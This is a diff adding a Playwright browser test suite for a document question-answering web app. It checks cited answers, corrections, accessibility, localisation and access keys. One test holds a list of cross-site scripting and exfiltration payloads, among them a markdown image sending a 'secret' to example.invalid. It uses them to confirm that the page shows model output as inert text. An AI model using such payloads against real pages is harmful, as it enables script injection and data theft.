@@ -1,0 +1,358 @@
+"""The page in a browser, over a real server: what a person sees and does, by mouse, keyboard and phone."""
+
+from __future__ import annotations
+
+import re
+import shutil
+from collections.abc import Callable, Iterator
+from contextlib import ExitStack
+from pathlib import Path
+from typing import Any
+
+import pytest
+from serving import QUESTION, Live, Serve
+
+from loresmith.models.fake import FakeModel
+
+playwright = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
+
+pytestmark = pytest.mark.browser
+
+RIGHT = "The torque for the M8 flange bolts of the P-200 is 25 Nm [1]."
+WRONG = "The torque for the M10 foot bolts is 77 Nm [1]."
+VIEWS = ("ask", "documents", "teach/review", "teach/plan", "teach/train", "compare", "releases", "settings")
+
+
+@pytest.fixture(scope="module")
+def chromium() -> Iterator[Any]:
+    found = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
+    with playwright.sync_playwright() as driver:
+        path = found or driver.chromium.executable_path
+        if not Path(path).is_file():
+            pytest.skip("there is no Chromium: playwright install chromium")
+        browser = driver.chromium.launch(executable_path=path, args=["--no-sandbox"])
+        yield browser
+        browser.close()
+
+
+class Visit:
+    """Pages over one live server; whatever a page complains of is kept in `complaints`."""
+
+    def __init__(self, browser: Any, stack: ExitStack, live: Live) -> None:
+        self.url = live.url
+        self.complaints: list[str] = []
+        self.foreign: list[str] = []
+        self._browser, self._stack = browser, stack
+
+    def __call__(self, view: str = "ask", *, ready: str = "h1", **options: Any) -> Any:
+        context = self._browser.new_context(**{"viewport": {"width": 1280, "height": 860}, **options})
+        self._stack.callback(context.close)
+        page = context.new_page()
+        page.set_default_timeout(10_000)
+        page.on("console", lambda said: said.type == "error" and self._hear(said.text))
+        page.on("pageerror", lambda error: self.complaints.append(str(error)))
+        page.on("request", lambda asked: self._look(asked.url))
+        page.goto(f"{self.url}/#/{view}")
+        page.locator(ready).first.wait_for()
+        return page
+
+    def _hear(self, text: str) -> None:
+        # What a test itself cuts off, and a key that it refuses, the browser notes on its own.
+        if "ERR_FAILED" not in text and "401" not in text:
+            self.complaints.append(text)
+
+    def _look(self, url: str) -> None:
+        if not url.startswith((self.url, "blob:", "data:")):
+            self.foreign.append(url)
+
+
+@pytest.fixture
+def visit(chromium: Any, serve: Serve) -> Iterator[Callable[..., Visit]]:
+    """A live server with a model that says what it is given, and visits to it."""
+    made: list[Visit] = []
+    with ExitStack() as stack:
+
+        def start(model: FakeModel | None = None, **options: Any) -> Visit:
+            made.append(Visit(chromium, stack, serve.live(model, **options)))
+            return made[-1]
+
+        yield start
+    for one in made:
+        assert one.complaints == []
+        assert one.foreign == []
+
+
+def ask(page: Any, question: str = QUESTION) -> Any:
+    """Ask by keyboard; returns the last turn when it is answered."""
+    page.locator("#question").fill(question)
+    page.keyboard.press("Enter")
+    turn = page.locator(".turn").last
+    turn.locator(".foot, .problem").first.wait_for()
+    return turn
+
+
+# --- ask ----------------------------------------------------------------------------------------------
+
+
+def test_an_answer_comes_with_its_sources_and_a_source_opens_with_the_quote_marked(visit):
+    page = visit(FakeModel(RIGHT))()
+    turn = ask(page)
+    assert "is 25 Nm" in turn.locator(".said").inner_text()
+    reference = turn.locator(".ref").first
+    assert reference.get_attribute("aria-label").startswith("Source 1: P-200 service manual")
+    reference.click()
+    panel = page.locator("#panel")
+    panel.locator("mark").wait_for()
+    assert "M8 flange bolts of the P-200 is 25 Nm" in panel.locator("mark").inner_text()
+    assert page.locator("#panel h2").evaluate("node => node === document.activeElement")
+    page.keyboard.press("Escape")
+    assert panel.is_hidden()
+    assert reference.evaluate("node => node === document.activeElement")
+
+
+def test_what_was_dropped_is_shown_with_the_reason(visit):
+    page = visit(FakeModel(f"{RIGHT} {WRONG}"))()
+    dropped = ask(page).locator(".dropped")
+    dropped.locator("summary").click()
+    assert "77 Nm" in dropped.locator("s").inner_text()
+    assert dropped.locator("li small").inner_text()
+
+
+def test_a_correction_is_kept_for_the_next_dataset(visit, serve: Serve):
+    page = visit(FakeModel(RIGHT))()
+    turn = ask(page)
+    turn.get_by_role("button", name="The answer is wrong").click()
+    assert page.get_by_label("What would be right?").evaluate("node => node === document.activeElement")
+    page.keyboard.type("The torque is 25 Nm.")
+    page.get_by_role("button", name="Keep the correction").click()
+    page.get_by_text("Your correction is kept").wait_for()
+    from loresmith import workspace as folders
+    from loresmith.state import State, learning
+
+    with State.open(folders.open_dir(serve.root).state_path) as state:
+        (row,) = learning.feedback(state)
+    assert (row.payload["verdict"], row.payload["correction"]) == ("corrected", "The torque is 25 Nm.")
+    assert row.payload["question"] == QUESTION
+
+
+def test_a_talk_is_there_after_a_reload_and_gone_with_a_new_one(visit):
+    page = visit(FakeModel(RIGHT))()
+    ask(page)
+    page.reload()
+    assert "25 Nm" in page.locator(".turn .said").inner_text()
+    page.get_by_role("button", name="New talk").click()
+    assert page.locator(".turn").count() == 0
+    page.reload()
+    page.locator("h1").wait_for()
+    assert page.locator(".turn").count() == 0
+
+
+def test_all_ways_side_by_side(visit):
+    page = visit(FakeModel(RIGHT), overrides={"model.name": "fake"})()
+    ask(page).get_by_role("button", name="All ways side by side").click()
+    page.locator(".way .meta").nth(1).wait_for()
+    said = page.locator(".way h4").all_inner_texts()
+    assert said[0].startswith("Model alone")
+    assert said[1].startswith("With documents")
+
+
+def test_an_answer_that_cannot_be_given_says_why_and_can_be_tried_again(visit):
+    page = visit(FakeModel(RIGHT))()
+    page.route("**/api/ask", lambda route: route.abort())
+    turn = ask(page)
+    assert "The server does not answer" in turn.locator(".problem").inner_text()
+    page.unroute("**/api/ask")
+    turn.get_by_role("button", name="Try again").click()
+    page.locator(".turn .ref").first.wait_for()
+
+
+HOSTILE = (
+    "<img src=x onerror=alert(1)>",
+    "<script>document.title='taken'</script>",
+    "![a](https://example.invalid/steal?q=secret)",
+    "[here](javascript:alert(1))",
+    "<iframe src='https://example.invalid'></iframe>",
+    "<a href='https://example.invalid/?d=1' style='position:fixed;inset:0'>x</a>",
+    "\u202e<svg/onload=alert(1)>",
+    "{{constructor.constructor('alert(1)')()}}",
+)
+
+
+def test_an_answer_with_html_in_it_is_text(visit):
+    """Two hundred answers as an attacker would have the model write them: nothing loads, nothing runs."""
+    answers = [f"{HOSTILE[n % len(HOSTILE)]} {n} {HOSTILE[(n * 3 + 1) % len(HOSTILE)]}" for n in range(200)]
+    page = visit(FakeModel(RIGHT))()
+    dialogs: list[str] = []
+    page.on("dialog", lambda box: (dialogs.append(box.message), box.dismiss()))
+    turns = [
+        {
+            "question": text,
+            "arm": "",
+            "answer": {
+                "answer": text,
+                "abstained": False,
+                "arm": "rag",
+                "sentences": [
+                    {
+                        "text": text,
+                        "citations": [
+                            {
+                                "document": text,
+                                "passage": text,
+                                "quote": text,
+                                "locator": {"page": 1, "heading": text},
+                            }
+                        ],
+                    }
+                ],
+                "dropped": [{"text": text, "reason": text}],
+                "hits": [
+                    {
+                        "document": text,
+                        "title": text,
+                        "text": text,
+                        "passage": text,
+                        "locator": {},
+                        "score": 1,
+                    }
+                ],
+                "model": text,
+            },
+        }
+        for text in answers
+    ]
+    for start in range(0, 200, 20):
+        talk = {"chat": "c", "arm": "", "turns": turns[start : start + 20]}
+        page.evaluate("talk => sessionStorage.setItem('loresmith.talk', JSON.stringify(talk))", talk)
+        page.reload()
+        page.locator(".turn").nth(19).wait_for()
+        shown = page.locator(".turn .sentence").evaluate_all("all => all.map(one => one.firstChild.data)")
+        assert shown == answers[start : start + 20]
+        assert (
+            page.locator(
+                "main :is(img, script, iframe, object, embed, a[href^=http], [style], [onerror])"
+            ).count()
+            == 0
+        )
+    assert dialogs == []
+    assert "taken" not in page.title()
+
+
+# --- documents ----------------------------------------------------------------------------------------
+
+
+def test_documents_are_listed_filtered_and_opened(visit):
+    page = visit()("documents", ready=".doc")
+    assert page.locator(".doc").count() == 2
+    page.get_by_role("searchbox").fill("salar")
+    assert page.locator(".doc b").all_inner_texts() == ["Salaries"]
+    page.get_by_role("searchbox").fill("")
+    page.locator(".doc", has_text="P-200").click()
+    page.locator("#panel").get_by_text("p-200.md").first.wait_for()
+
+
+def test_an_upload_arrives_and_a_refused_one_says_why(visit, serve: Serve, tmp_path: Path):
+    note = tmp_path / "note.txt"
+    note.write_text("The spare key hangs behind the blue door.")
+    program = tmp_path / "tool.exe"
+    program.write_bytes(b"MZ\0\0")
+    page = visit()("documents", ready=".doc")
+    # Reading starts when a file has arrived; here it is enough that it arrives.
+    page.route(
+        "**/api/jobs", lambda route: route.abort() if route.request.method == "POST" else route.continue_()
+    )
+    page.locator("#files").set_input_files([note, program])
+    page.locator(".uploads .reason").wait_for()
+    assert page.locator(".uploads li", has_text="tool.exe").locator(".reason").inner_text()
+    page.locator(".uploads li", has_text="note.txt").get_by_text("arrived").wait_for()
+    assert (serve.root / "uploads" / "note.txt").read_text() == note.read_text()
+
+
+# --- for everyone -------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("view", VIEWS)
+@pytest.mark.parametrize(("width", "scheme"), [(1280, "light"), (390, "dark")])
+def test_every_view_fits_and_every_control_has_a_name(visit, view, width, scheme):
+    page = visit(FakeModel(RIGHT))(view, viewport={"width": width, "height": 800}, color_scheme=scheme)
+    page.locator(".waiting").first.wait_for(state="detached")
+    assert page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0
+    nameless = page.locator("button, a[href], input, select, textarea, summary, progress").evaluate_all(
+        NAMELESS
+    )
+    assert nameless == []
+    assert page.locator("h1").count() == 1
+    assert page.locator("html").get_attribute("lang") == "en"
+    twice = page.evaluate(
+        "[...document.querySelectorAll('[id]')].map(n => n.id).filter((id, at, all) => all.indexOf(id) < at)"
+    )
+    assert twice == []
+
+
+NAMELESS = """all => all.filter(one => one.checkVisibility() && !(
+  one.getAttribute('aria-label') || one.textContent.trim() ||
+  (one.labels && one.labels.length && one.labels[0].textContent.trim())
+)).map(one => one.outerHTML.slice(0, 120))"""
+
+
+def test_everything_can_be_reached_by_keyboard(visit):
+    page = visit(FakeModel(RIGHT))()
+    page.locator("#question").blur()
+    for key, view in (("2", "documents"), ("6", "settings"), ("1", "ask")):
+        page.keyboard.press(key)
+        page.wait_for_url(f"**/#/{view}")
+        page.locator("#question").or_(page.locator("h1")).first.wait_for()
+        page.evaluate("document.activeElement.blur()")
+    page.keyboard.press("/")
+    assert page.locator("#question").evaluate("node => node === document.activeElement")
+    page.locator("#question").blur()
+    page.keyboard.press("?")
+    page.get_by_role("dialog").get_by_text("this help").wait_for()
+
+
+@pytest.mark.parametrize(
+    ("language", "word"), [("it-IT", "Chiedi"), ("es-MX", "Preguntar"), ("zh-CN", "提问"), ("fi-FI", "Ask")]
+)
+def test_it_speaks_the_language_of_the_browser_or_english(visit, language, word):
+    page = visit()(locale=language)
+    assert page.locator(".nav a").first.inner_text() == word
+    assert page.locator("html").get_attribute("lang") == (language[:2] if language[:2] != "fi" else "en")
+
+
+def test_theme_and_language_stay_as_chosen(visit):
+    page = visit()("settings")
+    page.get_by_label("Light or dark").select_option("dark")
+    page.get_by_label("Language of the page").select_option("it")
+    page.get_by_label("Chiaro o scuro").wait_for()
+    page.reload()
+    page.get_by_label("Chiaro o scuro").wait_for()
+    assert page.locator("html").get_attribute("data-theme") == "dark"
+    assert page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(20, 23, 26)"
+
+
+def test_a_key_is_asked_for_and_kept_out_of_the_address(visit, serve: Serve):
+    secret = serve.key("anna", "reader", ["staff"])["Authorization"].removeprefix("Bearer ")
+    page = visit()(ready="dialog")
+    page.get_by_label("Access key").fill("wrong")
+    page.keyboard.press("Enter")
+    page.get_by_text("This key is not known").wait_for()
+    page.get_by_label("Access key").fill(secret)
+    page.keyboard.press("Enter")
+    page.locator("#question").wait_for()
+    assert secret not in page.url
+    # A reader is shown what a reader may do.
+    assert page.locator(".nav a").all_inner_texts() == ["Ask", "Documents", "Settings"]
+
+
+def test_the_first_view_asks_for_little(visit):
+    begun = visit()
+    begun()
+    page = begun(ready="#question")
+    loaded = page.evaluate("performance.getEntriesByType('resource').map(e => [e.name, e.transferSize])")
+    assert len(loaded) <= 20
+    assert sum(size for _, size in loaded) < 60_000
+
+
+def test_numbers_are_written_as_the_language_does(visit):
+    page = visit()("documents", ready=".doc", locale="it-IT")
+    assert re.search(r"2 documenti · \d+ pass", page.locator(".head .lead").inner_text())
